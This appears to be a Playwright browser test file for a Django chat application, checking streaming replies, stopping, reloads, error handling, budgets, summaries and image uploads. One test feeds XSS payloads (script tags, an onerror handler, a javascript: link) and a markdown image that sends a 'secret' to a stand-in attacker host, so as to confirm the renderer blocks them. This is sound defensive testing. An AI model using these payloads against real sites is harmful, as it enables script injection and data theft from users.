"""The chat page in Chromium against daphne, Postgres, Redis and the fake provider."""

import re

import pytest
from playwright.sync_api import expect

from conversations.models import Message, MessageStatus, Role
from tests.conftest import save_screenshot
from tests.factories import (
    ChatModelFactory,
    ConversationFactory,
    UsageBudgetFactory,
    UsageRecordFactory,
)
from tests.fake_provider import Reply
from tests.waits import wait_for_socket

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

LAST_REPLY = "#messages [data-role=assistant]:last-child"

# The last reply's text once it differs from `previous` or the reply is complete; else false.
NEXT_REPLY_STATE = """([selector, previous]) => {
  const reply = document.querySelector(selector);
  if (!reply) return false;
  const text = reply.querySelector(".message-content")?.innerText ?? "";
  const done = reply.dataset.status === "complete";
  return (done || text !== previous) && { text, done };
}"""


@pytest.fixture
def conversation(alice):
    return ConversationFactory(owner=alice, chat_model=ChatModelFactory(), title="Foxes")


def open_chat(login, user, conversation, live_server_url, page=None):
    page = login(user, page)
    page.goto(f"{live_server_url}/c/{conversation.uuid}/")
    wait_for_socket(page)
    expect(page.locator("body")).not_to_have_class(re.compile("is-offline"))
    return page


def send(page, text: str) -> None:
    box = page.locator("form#composer textarea[name=message]")
    box.fill(text)
    box.press("Enter")


def reply_text(page) -> str:
    return page.locator(f"{LAST_REPLY} .message-content").inner_text()


def wait_for_status(page, status: str, timeout: float = 15_000) -> None:
    expect(page.locator(LAST_REPLY)).to_have_attribute("data-status", status, timeout=timeout)


def tokens(count: int, word: str = "word") -> list[str]:
    return [f"{word}{i} " for i in range(count)]


def test_reply_streams_in_progressively(login, conversation, alice, fake_provider, live_server_url):
    fake_provider.script(Reply(content=tokens(40), tokens_per_second=25))
    page = open_chat(login, alice, conversation, live_server_url)
    send(page, "Tell me a story")
    expect(page.locator("#messages [data-role=user] .message-content")).to_have_text(
        "Tell me a story"
    )
    # Each distinct text the reply shows on its way to complete: wait for the next change
    # (polled every animation frame) rather than sampling at a fixed pace.
    seen = set()
    previous = ""
    while True:
        state = page.wait_for_function(
            NEXT_REPLY_STATE, arg=[LAST_REPLY, previous], timeout=15_000
        ).json_value()
        seen.add(previous := state["text"])
        if state["done"]:
            break
    wait_for_status(page, "complete")
    assert len({s for s in seen if s}) >= 4, "several intermediate states were visible"
    assert reply_text(page).strip() == "".join(tokens(40)).strip()
    expect(page.locator("form#composer textarea[name=message]")).to_have_value("")
    save_screenshot(page, "chat-desktop")


def test_reload_mid_stream_resumes_without_gaps(
    login, conversation, alice, fake_provider, live_server_url
):
    sent = tokens(120, "r")
    fake_provider.script(Reply(content=sent, tokens_per_second=40))
    page = open_chat(login, alice, conversation, live_server_url)
    send(page, "Long answer please")
    page.wait_for_function(
        f"() => document.querySelector('{LAST_REPLY} .message-content')?.innerText.length > 60"
    )
    page.reload()
    text_after_reload = reply_text(page)
    assert text_after_reload, "the reloaded page shows the text generated so far"
    wait_for_status(page, "complete", timeout=20_000)
    assert reply_text(page).strip() == "".join(sent).strip()
    reply = Message.objects.filter(role=Role.ASSISTANT).get()
    assert reply.content == "".join(sent)


def test_stop_keeps_the_text_the_user_saw(
    login, conversation, alice, fake_provider, live_server_url
):
    fake_provider.script(Reply(content=tokens(300, "s"), tokens_per_second=30))
    page = open_chat(login, alice, conversation, live_server_url)
    send(page, "Go on forever")
    page.wait_for_function(
        f"() => document.querySelector('{LAST_REPLY} .message-content')?.innerText.length > 30"
    )
    expect(page.locator("#stop")).to_be_visible()
    seen = reply_text(page).strip()
    page.click("#stop")
    wait_for_status(page, "cancelled")
    fake_provider.wait_for_disconnect(timeout=5)
    final = reply_text(page).strip()
    assert final.startswith(seen) and len(final) >= len(seen)
    reply = Message.objects.filter(role=Role.ASSISTANT).get()
    assert reply.status == MessageStatus.CANCELLED and reply.content.strip() == final
    expect(page.locator("#stop")).to_be_hidden()
    # The composer works at once.
    fake_provider.script(Reply(content="Back again."))
    send(page, "Another")
    wait_for_status(page, "complete")
    assert reply_text(page).strip() == "Back again."


def test_escape_stops_a_streaming_reply(login, conversation, alice, fake_provider, live_server_url):
    fake_provider.script(Reply(content=tokens(300, "e"), tokens_per_second=30))
    page = open_chat(login, alice, conversation, live_server_url)
    send(page, "Go")
    wait_for_status(page, "streaming")
    page.keyboard.press("Escape")
    wait_for_status(page, "cancelled")


def test_two_tabs_see_the_same_reply(
    login, conversation, alice, fake_provider, live_server_url, browser_context
):
    fake_provider.script(Reply(content=tokens(50, "t"), tokens_per_second=30))
    first = open_chat(login, alice, conversation, live_server_url)
    second = browser_context.new_page()
    second.goto(f"{live_server_url}/c/{conversation.uuid}/")
    wait_for_socket(second)
    send(first, "Both tabs")
    expect(second.locator("#messages [data-role=user] .message-content")).to_have_text("Both tabs")
    wait_for_status(second, "streaming")
    wait_for_status(first, "complete")
    wait_for_status(second, "complete")
    assert reply_text(first) == reply_text(second)
    assert reply_text(second).strip() == "".join(tokens(50, "t")).strip()


def test_shift_enter_makes_a_newline_and_enter_sends(
    login, conversation, alice, fake_provider, live_server_url
):
    page = open_chat(login, alice, conversation, live_server_url)
    box = page.locator("form#composer textarea[name=message]")
    box.type("line one")
    box.press("Shift+Enter")
    box.type("line two")
    assert box.input_value() == "line one\nline two"
    box.press("Enter")
    expect(page.locator("#messages [data-role=user] .message-content")).to_have_text(
        "line one\nline two"
    )
    wait_for_status(page, "complete")


def test_new_conversation_starts_from_the_model_picker(
    login, alice, fake_provider, live_server_url
):
    chat_model = ChatModelFactory()
    fake_provider.script(Reply(content="Hello there."))
    page = login(alice, through_form=True)  # the one browser test signing in by the form
    page.click("#new-conversation")
    page.select_option("select[name=model]", str(chat_model.pk))
    send(page, "First words")
    page.wait_for_url(re.compile(r"/c/[0-9a-f-]+/$"))
    wait_for_status(page, "complete")
    assert reply_text(page).strip() == "Hello there."
    assert fake_provider.chat_requests[-1].json["model"] == "fake-model"


def test_finished_reply_is_markdown_and_cannot_run_script(
    login, conversation, alice, fake_provider, live_server_url
):
    content = (
        "# Title\n\n```python\nprint('hi')\n```\n\n"
        '<script>window.pwned = 1</script><img src=x onerror="window.pwned=2">\n\n'
        '[link](javascript:window.pwned=3) <button hx-get="/admin/">x</button>\n\n'
        "![leak](https://evil.example/?q=secret)"
    )
    fake_provider.script(Reply(content=[content]))
    page = open_chat(login, alice, conversation, live_server_url)
    requests = []
    page.on("request", lambda request: requests.append(request.url))
    send(page, "Show me code")
    wait_for_status(page, "complete")
    body = page.locator(f"{LAST_REPLY} .message-content")
    expect(body.locator("h1")).to_have_text("Title")
    expect(body.locator("pre")).to_contain_text("print('hi')")
    # The code block's Copy button is enhance.js's own, not the model's.
    assert body.locator("script, img, button:not(.copy-code), [hx-get]").count() == 0
    page.click(f"{LAST_REPLY} .message-content a", timeout=2000) if body.locator(
        "a"
    ).count() else None
    assert page.evaluate("window.pwned") is None
    assert not [url for url in requests if "evil.example" in url]


@pytest.mark.parametrize(
    "script,message",
    [
        ([Reply(status=401)], "API key"),
        ([Reply(status=429, headers={"Retry-After": "0"})] * 3, "rate limiting"),
        ([Reply(status=500, headers={"Retry-After": "0"})] * 3, "server error"),
        ([Reply(content=tokens(20), stall_after=4, stall_seconds=10)], "timed out"),
        ([Reply(content=tokens(20), disconnect_after=4)], "dropped"),
        ([Reply(content="Half", finish_reason=None, send_done=False)], "without finishing"),
        ([Reply(status=400, error_code="context_length_exceeded")], "context window"),
        ([Reply(content="")], "empty reply"),
    ],
    ids=["401", "429", "5xx", "stall", "dropped", "no-finish", "context", "empty"],
)
def test_each_error_is_shown_in_place_with_retry(
    login, conversation, alice, fake_provider, live_server_url, script, message
):
    fake_provider.script(*script)
    page = open_chat(login, alice, conversation, live_server_url)
    send(page, "Will this work?")
    reply = page.locator(LAST_REPLY)
    expect(reply.locator(".message-error")).to_contain_text(message, timeout=20_000)
    assert reply.get_attribute("data-status") in {"failed", "interrupted"}
    expect(page.locator("#messages [data-role=user] .message-content")).to_have_text(
        "Will this work?"
    )
    fake_provider.script(Reply(content="Recovered."))
    reply.locator("button", has_text="Retry").click()
    expect(page.locator(LAST_REPLY)).to_have_attribute("data-status", "complete", timeout=15_000)
    assert reply_text(page).strip() == "Recovered."


def test_a_refused_send_keeps_the_typed_text(login, conversation, alice, live_server_url):
    page = open_chat(login, alice, conversation, live_server_url)
    # Over budget after the page loaded: only the server knows the send will be refused.
    UsageBudgetFactory(token_limit=100)
    UsageRecordFactory(user=alice, prompt_tokens=100, completion_tokens=0)
    send(page, "A long thought I typed with care")
    expect(page.locator("#notice")).to_contain_text("budget")
    expect(page.locator("#composer textarea")).to_have_value("A long thought I typed with care")
    assert not Message.objects.filter(conversation=conversation).exists()


def test_a_first_message_refused_on_the_new_chat_page_creates_nothing_and_is_kept(
    login, conversation, alice, live_server_url
):
    page = login(alice)  # the new-chat page
    UsageBudgetFactory(token_limit=100)
    UsageRecordFactory(user=alice, prompt_tokens=100, completion_tokens=0)
    send(page, "My first question, typed with care")
    expect(page.locator(".notice--error").first).to_contain_text("budget")
    expect(page.locator("#composer textarea")).to_have_value("My first question, typed with care")
    save_screenshot(page, "new-chat-refused")
    # Only the conversation the fixture made: no empty "New chat" was left in the sidebar.
    assert list(alice.conversations.values_list("pk", flat=True)) == [conversation.pk]
    expect(page.locator("#sidebar a.conversation-link")).to_have_count(1)


def test_a_message_over_the_limit_is_refused_in_the_page_and_kept(
    login, conversation, alice, live_server_url
):
    page = open_chat(login, alice, conversation, live_server_url)
    text = "x" * 100_001  # MESSAGE_MAX_CHARS is 100,000
    send(page, text)
    expect(page.locator("#notice")).to_contain_text(
        "too long (100,001 characters; the limit is 100,000)"
    )
    assert page.locator("#composer textarea").input_value() == text
    assert not Message.objects.filter(conversation=conversation).exists()


def test_a_send_the_connection_dropped_comes_back_with_its_key(
    login, conversation, alice, live_server_url
):
    page = open_chat(login, alice, conversation, live_server_url)
    # Past the page's own limit and daphne's 1 MiB: the server drops the connection.
    page.locator("#composer").evaluate("(form) => { form.dataset.maxChars = ''; }")
    key = page.locator("#composer input[name=idempotency_key]").input_value()
    send(page, "y" * 1_100_000)
    expect(page.locator("#notice")).to_contain_text("connection was lost", timeout=10_000)
    assert len(page.locator("#composer textarea").input_value()) == 1_100_000
    assert page.locator("#composer input[name=idempotency_key]").input_value() == key
    assert not Message.objects.filter(conversation=conversation).exists()


def test_signed_out_in_another_tab_the_page_says_so_and_keeps_the_text(
    login, conversation, alice, live_server_url
):
    page = open_chat(login, alice, conversation, live_server_url)
    page.locator("#composer textarea").fill("Half a thought")
    other_tab = page.context.new_page()
    other_tab.goto(f"{live_server_url}/")
    other_tab.get_by_role("button", name="Log out").click()
    expect(page.locator("#notice")).to_contain_text("You were signed out", timeout=10_000)
    expect(page.locator("#notice a")).to_have_attribute(
        "href", f"/accounts/login/?next=/c/{conversation.uuid}/"
    )
    expect(page.locator("#composer textarea")).to_have_value("Half a thought")
    assert page.locator("body").get_attribute("class").count("is-signed-out") == 1


def test_phone_width_layout(login, conversation, alice, fake_provider, live_server_url, browser):
    context = browser.new_context(viewport={"width": 390, "height": 844})
    page = open_chat(login, alice, conversation, live_server_url, page=context.new_page())
    send(page, "Hi from a phone")
    wait_for_status(page, "complete")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    save_screenshot(page, "chat-phone")
    context.close()


@pytest.fixture
def second_server(live_server_url, fake_provider_server):
    """Another daphne process on the same database and Redis: a second worker of the site."""
    import os

    from django.db import connection

    from tests.live_server import DaphneServer

    server = DaphneServer(
        settings_dict=connection.settings_dict,
        provider_url=fake_provider_server.base_url,
        redis_url=os.environ.get("REDIS_URL", "redis://127.0.0.1:6379/14"),
    ).start()
    yield server.url
    server.stop()


def test_tab_on_another_server_process_streams_and_stops_the_reply(
    login, conversation, alice, fake_provider, live_server_url, second_server, browser_context
):
    fake_provider.script(Reply(content=tokens(300, "x"), tokens_per_second=30))
    first = open_chat(login, alice, conversation, live_server_url)
    # Cookies are per host, not per port: the second tab is logged in on the other process.
    second = browser_context.new_page()
    second.goto(f"{second_server}/c/{conversation.uuid}/")
    wait_for_socket(second)
    send(first, "Across processes")
    expect(second.locator("#messages [data-role=user] .message-content")).to_have_text(
        "Across processes"
    )
    second.wait_for_function(
        f"() => document.querySelector('{LAST_REPLY} .message-content')?.innerText.length > 40"
    )
    second.click("#stop")  # generated by the first process, stopped from the second
    wait_for_status(first, "cancelled")
    wait_for_status(second, "cancelled")
    fake_provider.wait_for_disconnect(timeout=5)
    reply = Message.objects.filter(role=Role.ASSISTANT).get()
    assert reply.status == MessageStatus.CANCELLED
    assert reply_text(first).strip() == reply_text(second).strip() == reply.content.strip()


def test_summary_divider_shows_expands_and_regenerates(
    login, alice, fake_provider, live_server_url
):
    from conversations.models import ConversationSummary
    from tests.factories import thread

    conversation = ConversationFactory(owner=alice, chat_model=ChatModelFactory())
    messages = thread(conversation, *[f"message number {i}" for i in range(80)])
    ConversationSummary.objects.create(
        conversation=conversation,
        text="The user counted **to forty**.",
        covers_through=messages[39],
        token_count=8,
        model_name="fake-model",
    )
    page = open_chat(login, alice, conversation, live_server_url)
    divider = page.locator("#summary-divider")
    expect(divider.locator("summary")).to_have_text("Earlier messages summarised — show")
    # The divider sits right after the last summarised message.
    before = page.locator("#summary-divider").evaluate(
        "el => el.previousElementSibling.querySelector('.message-content').innerText"
    )
    assert before.strip() == "message number 39"
    expect(divider.locator(".summary-text")).to_be_hidden()
    divider.locator("summary").click()
    expect(divider.locator(".summary-text strong")).to_have_text("to forty")
    fake_provider.default_reply = Reply(content="A fresh summary of the first forty.")
    page.evaluate("window.__notReloaded = true")
    divider.locator("button", has_text="Regenerate summary").click()
    expect(page.locator("#summary-divider")).to_contain_text("Regenerating")
    # The new summary takes its place without a reload (the socket pushes it).
    page.locator("#summary-divider summary").click(timeout=15_000)
    expect(page.locator("#summary-divider .summary-text")).to_have_text(
        "A fresh summary of the first forty."
    )
    after = page.locator("#summary-divider").evaluate(
        "el => el.previousElementSibling.querySelector('.message-content').innerText"
    )
    assert after.strip() == "message number 39"
    assert page.locator(".summary-divider").count() == 1
    assert page.evaluate("window.__notReloaded === true")
    save_screenshot(page, "chat-summary-divider")


def _tiny_png() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def test_an_attached_image_is_sent_to_a_vision_model_and_shown(
    login, alice, fake_provider, live_server_url, tmp_path
):
    import base64

    conversation = ConversationFactory(
        owner=alice, chat_model=ChatModelFactory(name="fake-vision", supports_vision=True)
    )
    image = tmp_path / "dot.png"
    image.write_bytes(_tiny_png())
    fake_provider.script(Reply(content="A single green pixel."))
    page = open_chat(login, alice, conversation, live_server_url)
    page.set_input_files("#attach-input", str(image))
    chip = page.locator("#composer-attachments .attachment-chip")
    expect(chip).to_have_count(1)
    send(page, "What is this?")
    wait_for_status(page, "complete")
    expect(page.locator("#composer-attachments .attachment-chip")).to_have_count(0)
    thumb = page.locator("#messages [data-role=user] img.message-image")
    expect(thumb).to_have_count(1)
    assert page.evaluate("img => img.complete && img.naturalWidth", thumb.element_handle()) == 1
    parts = fake_provider.chat_requests[-1].json["messages"][-1]["content"]
    image_part = next(p for p in parts if p["type"] == "image_url")
    encoded = image_part["image_url"]["url"].split("base64,", 1)[1]
    assert base64.b64decode(encoded) == _tiny_png()
    assert {"type": "text", "text": "What is this?"} in parts
